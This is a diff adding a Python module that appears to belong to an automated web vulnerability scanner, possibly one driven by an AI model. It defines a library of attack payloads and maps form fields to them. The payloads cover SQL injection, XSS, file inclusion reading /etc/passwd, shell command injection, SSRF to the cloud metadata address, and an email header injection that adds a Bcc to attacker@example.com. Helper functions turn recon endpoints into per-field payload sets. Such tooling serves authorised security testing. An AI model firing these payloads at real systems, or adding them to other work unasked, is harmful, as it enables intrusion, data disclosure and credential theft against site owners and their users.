@@ -0,0 +1,125 @@
+import re
+
+# Built-in payloads per attack class, used for baseline attacks without a model call
+ATTACK_PAYLOADS = {
+    "sqli": [
+        "' OR 1=1--",
+        "' OR '1'='1",
+        "admin' --",
+        "\" OR \"1\"=\"1",
+        "1' ORDER BY 100--",
+        "' UNION SELECT NULL--",
+        "1 AND SLEEP(5)",
+    ],
+    "xss": [
+        "<script>alert(1)</script>",
+        "\"><script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "<svg onload=alert(1)>",
+        "javascript:alert(1)",
+    ],
+    "lfi": [
+        "../../../../etc/passwd",
+        "..%2f..%2f..%2f..%2fetc%2fpasswd",
+        "....//....//....//etc/passwd",
+        "/etc/passwd%00",
+        "php://filter/convert.base64-encode/resource=index.php",
+    ],
+    "cmdi": [
+        "; ls -la",
+        "&& whoami",
+        "| id",
+        "`id`",
+        "$(whoami)",
+    ],
+    "ssrf": [
+        "http://127.0.0.1",
+        "http://localhost:22",
+        "http://169.254.169.254/latest/meta-data/",
+        "file:///etc/passwd",
+    ],
+    "email": [
+        "test@example.com' OR 1=1--",
+        "admin@' OR 1=1--",
+        "\"<script>alert(1)</script>\"@example.com",
+        "test@example.com%0aBcc:attacker@example.com",
+    ],
+    "csrf": [
+        "",
+        "invalid_token",
+        "0000000000000000000000000000000000000000",
+    ],
+    "overflow": [
+        "A" * 5000,
+        "-1",
+        "99999999999999999999",
+        "%s%s%s%s%n",
+    ],
+}
+
+# Attack classes worth trying per field type
+FIELD_TYPE_ATTACKS = {
+    "email": ["email", "sqli", "xss"],
+    "password": ["sqli", "overflow"],
+    "text": ["sqli", "xss", "lfi", "cmdi"],
+    "textarea": ["xss", "sqli", "cmdi"],
+    "search": ["xss", "sqli"],
+    "hidden": ["csrf", "sqli"],
+    "select": ["sqli", "xss", "overflow"],
+    "number": ["sqli", "overflow"],
+    "url": ["ssrf", "xss"],
+    "tel": ["sqli", "overflow"],
+}
+
+# Field names that point at a specific attack class whatever the field type
+NAME_HINTS = [
+    (re.compile(r"url|uri|link|redirect|callback|webhook|(^|[_-])next($|[_-])", re.I), "ssrf"),
+    (re.compile(r"file|path|page|template|include|folder|(^|[_-])(dir|doc)($|[_-])", re.I), "lfi"),
+    (re.compile(r"cmd|command|exec|hostname|(^|[_-])(host|ip|ping)($|[_-])", re.I), "cmdi"),
+    (re.compile(r"token|csrf|nonce", re.I), "csrf"),
+]
+
+
+def attack_classes_for(field):
+    """Return the attack classes for a form field, from its type and name."""
+    field_type = str(field.get("type") or "text").lower()
+    classes = list(FIELD_TYPE_ATTACKS.get(field_type, FIELD_TYPE_ATTACKS["text"]))
+
+    name = str(field.get("name") or "")
+    for pattern, attack_class in NAME_HINTS:
+        if pattern.search(name) and attack_class not in classes:
+            classes.insert(0, attack_class)
+    return classes
+
+
+def payloads_for_field(field, attack_classes=None, per_class=None):
+    """Return library payloads for a field.
+
+    Args:
+        field: Form field dict with "name" and "type".
+        attack_classes: Only use these classes (still limited to the ones that fit the field).
+        per_class: Most payloads to take from each class.
+    """
+    classes = attack_classes_for(field)
+    if attack_classes:
+        classes = [attack_class for attack_class in classes if attack_class in attack_classes]
+
+    payloads = []
+    for attack_class in classes:
+        for payload in ATTACK_PAYLOADS[attack_class][:per_class]:
+            if payload not in payloads:
+                payloads.append(payload)
+    return payloads
+
+
+def baseline_payloads(endpoints, attack_classes=None, per_class=None):
+    """Build {path: {field_name: [payloads]}} for recon endpoints from the library alone."""
+    payloads = {}
+    for endpoint in endpoints:
+        for field in endpoint.get("form_fields", []):
+            if not field.get("name"):
+                continue
+            field_payloads = payloads_for_field(field, attack_classes, per_class)
+            if field_payloads:
+                payloads.setdefault(endpoint.get("path", "/"), {})[field["name"]] = field_payloads
+    return payloads